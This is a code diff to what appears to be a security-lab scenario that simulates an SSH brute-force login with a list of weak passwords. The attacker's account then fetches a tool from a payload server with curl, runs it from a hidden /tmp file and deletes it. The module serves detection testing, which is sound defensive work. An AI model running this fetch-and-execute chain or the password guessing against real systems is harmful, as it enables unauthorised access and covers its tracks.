@@ -18,7 +18,6 @@ import shlex
 from provarmor.lab import techniques as t
 from provarmor.lab.context import LabContext
 from provarmor.lab.scenario import Action, Channel, Payload, Plan, Scenario, SetupFile, StepSpec
-from provarmor.lab.scenarios.steps import deletion_step
 
 WRONG_GUESSES = ("123456", "password", "admin", "qwerty", "letmein", "welcome", "changeme")
 """Tried first, each on its own connection (more than the brute-force rule's threshold)."""
@@ -35,10 +34,15 @@ STEPS = (
     StepSpec(
         name="drop-tool",
         summary="Logged in with the guessed password, the attacker downloads a tool from its "
-        "server into a hidden file in /tmp and runs it.",
-        techniques=(t.INGRESS_TRANSFER, t.UNIX_SHELL, t.HIDDEN_FILES, t.SYSTEM_INFO),
+        "server into a hidden file in /tmp, runs it and deletes it.",
+        techniques=(
+            t.INGRESS_TRANSFER,
+            t.UNIX_SHELL,
+            t.HIDDEN_FILES,
+            t.SYSTEM_INFO,
+            t.FILE_DELETION,
+        ),
     ),
-    deletion_step("cleanup", "Over SSH again, the tool is deleted."),
 )
 
 
@@ -72,9 +76,9 @@ def plan(ctx: LabContext) -> Plan:
         + ' && echo "password: $p" && break; done'
     )
     fetch_and_run = (
-        f"curl -s -o {dropped} {ctx.payload_url(tool.path)} && chmod 755 {dropped} && {dropped}"
+        f"curl -s -o {dropped} {ctx.payload_url(tool.path)} && chmod 755 {dropped} && "
+        f"{dropped} && rm -f {dropped}"
     )
-    quoted_password = shlex.quote(password)
     return Plan(
         setup_files=(
             SetupFile(path=askpass, content='#!/bin/sh\necho "$GUESS"\n', mode=0o700),
@@ -95,14 +99,7 @@ def plan(ctx: LabContext) -> Plan:
             Action(
                 step="drop-tool",
                 channel=Channel.REMOTE,
-                command=_ssh(ctx, user, askpass, quoted_password, fetch_and_run),
-                lateral_to="host2",
-                timeout=30,
-            ),
-            Action(
-                step="cleanup",
-                channel=Channel.REMOTE,
-                command=_ssh(ctx, user, askpass, quoted_password, f"rm -f {dropped}"),
+                command=_ssh(ctx, user, askpass, shlex.quote(password), fetch_and_run),
                 lateral_to="host2",
                 timeout=30,
             ),
@@ -120,7 +117,7 @@ SCENARIO = Scenario(
         "From its own machine the attacker tries common passwords for one account of the "
         "SSH server, one guess per connection, until the account's weak password logs in. "
         "Over that account it downloads a tool from its server into a hidden file in /tmp, "
-        "runs it, and later deletes it over another login."
+        "runs it and deletes it."
     ),
     root_cause=(
         "The SSH login of the weak-password account from the attacker's address, after the "
